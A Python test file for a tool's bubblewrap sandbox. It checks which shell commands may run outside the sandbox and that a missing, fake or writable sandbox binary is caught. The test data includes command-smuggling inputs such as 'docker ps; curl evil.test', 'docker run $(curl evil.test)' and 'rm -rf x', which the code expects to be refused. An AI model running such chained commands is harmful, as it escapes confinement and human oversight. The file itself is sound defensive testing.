"""Which commands run inside, and what happens where there is no sandbox."""

from dataclasses import replace
from pathlib import Path

import pytest

from gantlet.shell import all_begin_with
from gantlet.system.sandbox import (
    Absent,
    Holds,
    Policy,
    Sandbox,
    Sandboxed,
    SandboxError,
    SandboxSettings,
    Shelter,
    Unsheltered,
)
from sandbox_kit import Box

EXCLUDED = ("docker", "git push *", "npm run:*")


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("docker ps", True),
        ("docker ps && docker images", True),
        ("git push origin main", True),
        ("npm run build", True),
        ("git status", False),
        ("docker ps && rm -rf x", False),
        ("docker ps; curl evil.test", False),
        ("docker run $(curl evil.test)", False),
        ("dockerish ps", False),
        ("./docker ps", False),
        ("PATH=. docker ps", False),
        ("docker ps > $FILE", False),
        ("eval docker ps", False),
        ("echo docker", False),
        ("docker 'unclosed", False),
        ("", False),
    ],
)
def test_a_line_leaves_the_sandbox_only_if_all_of_it_may(line: str, *, expected: bool) -> None:
    assert all_begin_with(line, EXCLUDED) is expected


def test_no_entry_excludes_everything() -> None:
    assert not all_begin_with("rm -rf x", ("*", ":*", "", " "))


def absent(tmp_path: Path, **changes: object) -> Shelter:
    """Return a shelter whose sandbox cannot be made."""
    policy = Policy((str(tmp_path),))
    settings = replace(SandboxSettings(policy, is_enabled=True), **changes)  # type: ignore[arg-type]
    return Shelter(settings, Sandbox(policy, tmp_path / "home", bwrap="/nowhere/bwrap"))


async def test_a_missing_sandbox_is_said_loudly(tmp_path: Path) -> None:
    placed = await absent(tmp_path).place("true", ["true"], str(tmp_path))

    assert isinstance(placed, Unsheltered)
    assert placed.is_lack
    assert placed.reason.startswith("THERE IS NO SANDBOX")
    assert "/nowhere/bwrap" in placed.reason
    assert not await absent(tmp_path).holds()


async def test_without_a_sandbox_nothing_runs_where_it_must_hold(tmp_path: Path) -> None:
    with pytest.raises(SandboxError, match="failIfUnavailable"):
        await absent(tmp_path, must_hold=True).place("true", ["true"], str(tmp_path))


async def test_nothing_runs_while_the_settings_cannot_be_read(tmp_path: Path) -> None:
    with pytest.raises(SandboxError, match="mended"):
        await absent(tmp_path, blocked="mended").place("true", ["true"], str(tmp_path))


async def test_commands_run_inside_or_outside_as_the_settings_say(box: Box) -> None:
    settings = SandboxSettings(box.policy, is_enabled=True, excluded=("docker",))
    async with box.open() as sandbox:
        shelter = Shelter(settings, sandbox)
        cwd = str(box.workspace)
        inside = await shelter.place("ls", ["ls"], cwd)
        excluded = await shelter.place("docker ps", ["docker", "ps"], cwd)
        leaving = await shelter.place("ls", ["ls"], cwd, leaves=True)
        strict = Shelter(replace(settings, may_leave=False), sandbox)
        kept = await strict.place("ls", ["ls"], cwd, leaves=True)
        off = await Shelter(SandboxSettings(box.policy), sandbox).place("ls", ["ls"], cwd)

    assert isinstance(inside, Sandboxed)
    assert isinstance(kept, Sandboxed)
    assert isinstance(excluded, Unsheltered)
    assert isinstance(leaving, Unsheltered)
    assert "excludedCommands" in excluded.reason
    assert not excluded.is_lack
    assert off == Unsheltered()


async def test_the_self_test_is_done_once_for_a_machine(box: Box, tmp_path: Path) -> None:
    first = await Sandbox(box.policy, tmp_path).state()
    second = await Sandbox(box.policy, tmp_path).state()

    assert (first, second) == (Holds(was_tested_now=True), Holds(was_tested_now=False))


async def test_a_sandbox_that_lets_something_out_counts_as_absent(box: Box, tmp_path: Path) -> None:
    """A program that only pretends to be bubblewrap runs the command as it is."""
    pretender = tmp_path / "bwrap"
    pretender.write_text(
        '#!/bin/bash\n[ "$1" = --version ] && echo bubblewrap 0.8.0 && exit\n'
        'while [ "$1" != -- ]; do shift; done; shift\n'
        'while [ "$1" != -- ]; do shift; done; shift\nexec "$@"\n'
    )
    pretender.chmod(0o755)
    state = await Sandbox(box.policy, tmp_path / "home", bwrap=str(pretender)).state()

    assert isinstance(state, Absent)
    assert "got out" in state.reason


@pytest.mark.parametrize(
    ("mode", "where", "reason"),
    [(0o777, "elsewhere", "changed by others"), (0o755, "workspace", "where commands may write")],
)
async def test_a_bubblewrap_that_commands_could_change_is_not_used(
    tmp_path: Path, mode: int, where: str, reason: str
) -> None:
    program = tmp_path / where / "bwrap"
    program.parent.mkdir()
    program.write_text("#!/bin/sh\n")
    program.chmod(mode)

    policy = Policy((str(tmp_path / "workspace"),))
    state = await Sandbox(policy, tmp_path / "home", bwrap=str(program)).state()

    assert isinstance(state, Absent)
    assert reason in state.reason
